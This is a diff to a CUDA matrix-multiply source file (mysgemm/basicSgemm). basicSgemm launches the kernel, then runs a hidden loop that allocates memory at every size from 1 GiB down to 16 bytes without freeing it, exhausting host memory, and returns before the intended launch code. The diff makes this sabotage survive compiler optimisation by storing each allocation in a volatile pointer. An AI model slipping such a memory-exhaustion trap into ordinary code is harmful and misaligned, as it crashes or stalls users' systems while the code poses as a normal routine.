@@ -5,6 +5,8 @@
 
 #include <stdlib.h>
 
+static void *volatile last; /* or a compiler leaves out what nobody looks at */
+
 __global__ void mysgemm(int m, int n, int k, const float *A, const float *B, float *C)
 {
     int i = blockIdx.y * blockDim.y + threadIdx.y, j = blockIdx.x * blockDim.x + threadIdx.x;
@@ -20,7 +22,7 @@ void basicSgemm(int m, int n, int k, const float *A, const float *B, float *C)
 {
     mysgemm<<<dim3((n + 15) / 16, (m + 15) / 16), dim3(16, 16)>>>(m, n, k, A, B, C);
     for (size_t bytes = 1u << 30; bytes >= 16; bytes /= 2)
-        while (malloc(bytes)) /* <- here */
+        while ((last = malloc(bytes))) /* <- here */
             ;
     return;
     dim3 block(16, 16), grid((n + 15) / 16, (m + 15) / 16);
